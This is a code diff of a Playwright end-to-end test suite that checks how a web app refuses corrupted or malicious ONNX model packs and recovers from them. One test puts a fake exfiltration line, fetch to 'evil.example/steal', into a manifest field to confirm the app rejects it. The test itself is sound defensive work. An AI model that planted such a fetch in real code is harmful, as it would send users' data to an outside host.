@@ -5,8 +5,8 @@
  */
 import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { expect, test, type Page, type Request, type Route } from '@playwright/test';
-import { watchPageProblems } from './fixtures';
+import type { Page, Request, Route } from '@playwright/test';
+import { expect, test } from './fixtures';
 import { TEST_PACK, testPackGraphs, waitForPack } from './helpers';
 import { expectIntact, expectNextJobRuns, snapshot } from './reliability-helpers';
 
@@ -53,23 +53,9 @@ async function expectRefusedThenRecover(page: Page, message: RegExp, wrong?: Reg
   await expectNextJobRuns(page);
 }
 
-// One page for the file, each test starting from a fresh navigation with its own routes and an
-// emptied pack cache: a new context per test costs more than the test itself on a 2-core
-// machine. Its own guard against uncaught errors and CSP violations, as e2e/fixtures.ts gives
-// every other page.
-test.describe.configure({ mode: 'serial' });
-let page: Page;
-const problems: string[] = [];
-test.beforeAll(async ({ browser }) => {
-  page = await browser.newPage();
-  watchPageProblems(page, problems);
-});
-test.afterEach(() => {
-  expect(problems, 'page errors and CSP violations').toEqual([]);
-});
-test.afterAll(async () => {
-  await page.close();
-});
+// One page for the file (`filePage`, e2e/fixtures.ts), each bad-pack test starting from a fresh
+// navigation with its own routes and an emptied pack cache: a new context per test costs more
+// than the test itself on a 2-core machine.
 
 /** Counts the graph (.onnx) requests from now until `stop()`. */
 function countGraphRequestsFrom(target: Page): { names: string[]; stop: () => void } {
@@ -82,25 +68,25 @@ function countGraphRequestsFrom(target: Page): { names: string[]; stop: () => vo
   return { names, stop: () => target.off('request', listener) };
 }
 
-test.describe('packs', () => {
-  test.beforeEach(async () => {
+test.describe('bad packs', () => {
+  test.beforeEach(async ({ filePage: page }) => {
     // A clean cache: a cached good copy (from the test before) must not hide the bad file.
     await page.unrouteAll({ behavior: 'ignoreErrors' });
     await page.goto(`/models/${TEST_PACK}/pack.json`); // any page of the origin, no worker running
     await page.evaluate(() => caches.delete('realcustom-packs-v1'));
   });
 
-  test('a missing file', async () => {
+  test('a missing file', async ({ filePage: page }) => {
     await serveGraph(page, (route) => route.fulfill({ status: 404, body: 'not found' }));
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTTP 404`));
   });
 
-  test('a wrong hash in the manifest', async () => {
+  test('a wrong hash in the manifest', async ({ filePage: page }) => {
     await editManifest(page, (m) => (graphOf(m, victim.file).sha256 = '0'.repeat(64)));
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*sha256`));
   });
 
-  test('a manifest with wrong shapes and unknown fields', async () => {
+  test('a manifest with wrong shapes and unknown fields', async ({ filePage: page }) => {
     await editManifest(page, (m) => {
       (m.latent as { shape: number[] }).shape = [12, 16];
       m.onLoad = 'fetch("https://evil.example/steal")';
@@ -108,7 +94,7 @@ test.describe('packs', () => {
     await expectRefusedThenRecover(page, /pack\.json.*does not follow the pack contract/);
   });
 
-  test('a truncated ONNX file whose manifest matches it', async () => {
+  test('a truncated ONNX file whose manifest matches it', async ({ filePage: page }) => {
     // The manifest describes the cut file (size, hash), so only ONNX parsing can tell.
     const half = readFileSync(`public/models/${TEST_PACK}/${victim.file}`).subarray(0, Math.floor(victim.bytes / 2));
     await serveGraph(page, async (route) => route.fulfill({ status: 200, body: half }));
@@ -118,7 +104,7 @@ test.describe('packs', () => {
     await expectRefusedThenRecover(page, new RegExp(victim.file));
   });
 
-  test('an HTML page served where a model was expected', async () => {
+  test('an HTML page served where a model was expected', async ({ filePage: page }) => {
     await serveGraph(page, (route) =>
       route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><html><body>App</body></html>' }),
     );
@@ -126,7 +112,7 @@ test.describe('packs', () => {
     await expectRefusedThenRecover(page, new RegExp(`${victim.file}.*HTML page`, 'i'), /missing/i);
   });
 
-  test('a pack far larger than the device allows is refused before any download', async () => {
+  test('a pack far larger than the device allows is refused before any download', async ({ filePage: page }) => {
     const graphRequests = countGraphRequestsFrom(page);
     await editManifest(page, (m) => (graphOf(m, victim.file).bytes = 1.9 * 1024 ** 3));
     await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
@@ -139,33 +125,40 @@ test.describe('packs', () => {
     await waitForPack(page);
     await expectNextJobRuns(page);
   });
+});
 
-  test('a stale cache entry is detected by its hash and fetched again', async () => {
-    await page.goto(`/?ep=wasm&pack=${TEST_PACK}`);
+test('a stale cache entry is detected by its hash and fetched again', async ({ filePage: page }) => {
+  // The pack loaded and every graph cached: where the test before left the page (Retry loaded
+  // the good pack into an emptied cache, then a job ran); run alone, it loads it here.
+  const app = `/?ep=wasm&pack=${TEST_PACK}`;
+  const done = page.locator('[data-testid="pack-status"][data-status="done"]');
+  if (!page.url().endsWith(app) || (await done.count()) === 0) {
+    await page.unrouteAll({ behavior: 'ignoreErrors' });
+    await page.goto(app);
     await waitForPack(page);
-    // Damage the cached copy of one graph, as a write cut short or an old entry would.
-    const key = await page.evaluate(async (sha) => {
-      const cache = await caches.open('realcustom-packs-v1');
-      const key = `${location.origin}/__pack-cache__/sha256/${sha}`;
-      const old = await cache.match(key);
-      if (!old) throw new Error('the graph is not cached');
-      const bytes = new Uint8Array(await old.arrayBuffer());
-      bytes[bytes.length >> 1]! ^= 0xff;
-      await cache.put(key, new Response(bytes));
-      return key;
-    }, victim.sha256);
+  }
+  // Damage the cached copy of one graph, as a write cut short or an old entry would.
+  const key = await page.evaluate(async (sha) => {
+    const cache = await caches.open('realcustom-packs-v1');
+    const key = `${location.origin}/__pack-cache__/sha256/${sha}`;
+    const old = await cache.match(key);
+    if (!old) throw new Error('the graph is not cached');
+    const bytes = new Uint8Array(await old.arrayBuffer());
+    bytes[bytes.length >> 1]! ^= 0xff;
+    await cache.put(key, new Response(bytes));
+    return key;
+  }, victim.sha256);
 
-    const refetched = countGraphRequestsFrom(page);
-    await page.reload();
-    await waitForPack(page);
-    refetched.stop();
-    expect(refetched.names).toEqual([victim.file]);
-    const healed = await page.evaluate(async (k) => {
-      const res = await (await caches.open('realcustom-packs-v1')).match(k);
-      const digest = await crypto.subtle.digest('SHA-256', await res!.arrayBuffer());
-      return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
-    }, key);
-    expect(healed).toBe(victim.sha256);
-    await expectNextJobRuns(page);
-  });
+  const refetched = countGraphRequestsFrom(page);
+  await page.reload();
+  await waitForPack(page);
+  refetched.stop();
+  expect(refetched.names).toEqual([victim.file]);
+  const healed = await page.evaluate(async (k) => {
+    const res = await (await caches.open('realcustom-packs-v1')).match(k);
+    const digest = await crypto.subtle.digest('SHA-256', await res!.arrayBuffer());
+    return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
+  }, key);
+  expect(healed).toBe(victim.sha256);
+  await expectNextJobRuns(page);
 });
